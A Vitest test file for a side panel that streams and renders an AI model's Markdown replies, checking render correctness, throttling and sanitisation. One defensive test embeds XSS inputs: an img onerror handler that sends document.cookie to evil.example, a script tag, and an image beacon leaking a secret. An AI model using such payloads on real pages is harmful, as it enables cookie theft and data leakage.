// @vitest-environment happy-dom
import { act } from 'preact/test-utils';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { lexMarkdownBlocks } from '@/lib/sidepanel/lex-markdown-blocks';
import { renderMarkdownBlock } from '@/lib/sidepanel/render-markdown';
import { mountPanel, type MountedPanel } from './mount-panel';
import { tabId, turn } from './session-fixtures';

const reply = [
  'I added **two mugs** to your cart.',
  '',
  '| item | quantity |',
  '|------|----------|',
  '| mug  | 2        |',
  '',
  '- blue, `sku-12`',
  '- see [the cart](https://shop.example/cart)',
  '',
  '```json',
  '{"total": 24}',
  '```',
].join('\n');

// Spied, not replaced: the real lexer and renderer run, and the test counts how often.
vi.mock('@/lib/sidepanel/lex-markdown-blocks', { spy: true });
vi.mock('@/lib/sidepanel/render-markdown', { spy: true });

let panel: MountedPanel | undefined;
afterEach(() => panel?.unmount());

/** Waits past the streaming render interval, so the throttled prose shows its latest text. */
const settle = () => act(() => new Promise((resolve) => setTimeout(resolve, 120)));

async function streamReply(chunks: string[]): Promise<MountedPanel> {
  const mounted = await mountPanel();
  await mounted.deliver({ type: 'turn', tabId, turn: turn() });
  for (const chunk of chunks) {
    await mounted.deliver({ type: 'prose-delta', tabId, turnId: 'turn-1', text: chunk });
  }
  await settle();
  return mounted;
}

describe('streamed prose', () => {
  it('renders the same HTML from one-character deltas as from one delta', async () => {
    const whole = await streamReply([reply]);
    const wholeHtml = whole.find('prose')?.innerHTML;
    whole.unmount();

    panel = await streamReply([...reply]);
    expect(wholeHtml).toContain('<strong>two mugs</strong>');
    expect(panel.find('prose')?.innerHTML).toBe(wholeHtml);

    await panel.deliver({
      type: 'turn',
      tabId,
      turn: turn({ items: [{ kind: 'prose', text: reply }], outcome: 'answer', endedAt: 2_000 }),
    });
    expect(panel.find('prose')?.innerHTML).toBe(wholeHtml);
  });

  it('shows a code block as code while it streams, before its closing fence comes', async () => {
    panel = await streamReply(['Here:\n```python\nimport json\n', 'print(json.dumps({}))']);
    expect(panel.find('prose')?.querySelector('pre code')?.textContent).toBe('import json\nprint(json.dumps({}))\n');
    await panel.deliver({ type: 'prose-delta', tabId, turnId: 'turn-1', text: '\n```\nRun it.' });
    await settle();
    expect(panel.find('prose')?.querySelector('pre code')?.textContent).toBe('import json\nprint(json.dumps({}))\n');
    expect(panel.find('prose')?.textContent).toContain('Run it.');
  });

  it('shows a typing indicator while the turn runs and not after it ends', async () => {
    panel = await streamReply(['Looking', ' for mugs']);
    expect(panel.find('turn')?.querySelector('.typing')).not.toBeNull();
    expect(panel.find('request')?.textContent).toBe('add two mugs to the cart');

    await panel.deliver({ type: 'turn', tabId, turn: turn({ items: [{ kind: 'prose', text: 'Done.' }], outcome: 'answer' }) });
    expect(panel.find('turn')?.querySelector('.typing')).toBeNull();
    expect(panel.find('prose')?.textContent).toBe('Done.\n');
  });

  // Renders a long reply for real: on a busy two-core machine that takes past vitest's 5 s default, which is no finding.
  it('renders Markdown at a bounded rate, and only the blocks that changed, while a long reply streams', async () => {
    panel = await mountPanel();
    await panel.deliver({ type: 'turn', tabId, turn: turn() });
    const paragraph = `${'Mugs are *great*. '.repeat(20)}\n\n`;
    vi.mocked(lexMarkdownBlocks).mockClear();
    vi.mocked(renderMarkdownBlock).mockClear();
    const started = performance.now();
    for (let index = 0; index < 500; index += 1) {
      await panel.deliver({ type: 'prose-delta', tabId, turnId: 'turn-1', text: paragraph });
      // Messages arrive as separate tasks, so the render timer gets its turn between them.
      await new Promise((resolve) => setTimeout(resolve, 0));
    }
    const elapsed = performance.now() - started;
    await settle();
    // Something shows while the reply streams; the rest may still be on its way.
    expect(panel.find('prose')?.querySelectorAll('p').length).toBeGreaterThan(0);
    // At most one render per 40 ms interval, plus the last.
    const renders = vi.mocked(lexMarkdownBlocks).mock.calls.length;
    expect(renders).toBeLessThanOrEqual(Math.ceil(elapsed / 40) + 2);
    expect(renders).toBeLessThan(100);
    // Each block (a paragraph and the blank line after it) is rendered about once, not at every update.
    expect(renders).toBeGreaterThanOrEqual(2);
    expect(vi.mocked(renderMarkdownBlock).mock.calls.length).toBeLessThan(2 * 500 + 4 * renders);

    await panel.deliver({ type: 'turn', tabId, turn: turn({ items: [{ kind: 'prose', text: paragraph.repeat(500) }], outcome: 'answer' }) });
    expect(panel.find('prose')?.querySelectorAll('p')).toHaveLength(500);
  }, 20_000);
});

describe('prose from a model', () => {
  it('renders no image, script or frame, whatever the model writes', async () => {
    panel = await mountPanel();
    const text = 'Here <img src=x onerror="fetch(`https://evil.example/?c=`+document.cookie)">\n\n<script>alert(1)</script>\n\n![pixel](https://evil.example/p.png?secret=1)';
    await panel.deliver({ type: 'turn', tabId, turn: turn({ items: [{ kind: 'prose', text }], outcome: 'answer' }) });
    const prose = panel.find('prose');
    expect(prose?.querySelector('img, script, iframe, [onerror], [src]')).toBeNull();
    expect(prose?.textContent).toContain('<script>alert(1)</script>');
    expect(prose?.textContent).toContain('[image: pixel]');
  });

  it('shows the request as text, never as markup', async () => {
    panel = await mountPanel();
    await panel.deliver({ type: 'turn', tabId, turn: turn({ request: '<b>bold</b> please', outcome: 'answer' }) });
    expect(panel.find('request')?.querySelector('b')).toBeNull();
    expect(panel.find('request')?.textContent).toBe('<b>bold</b> please');
  });
});
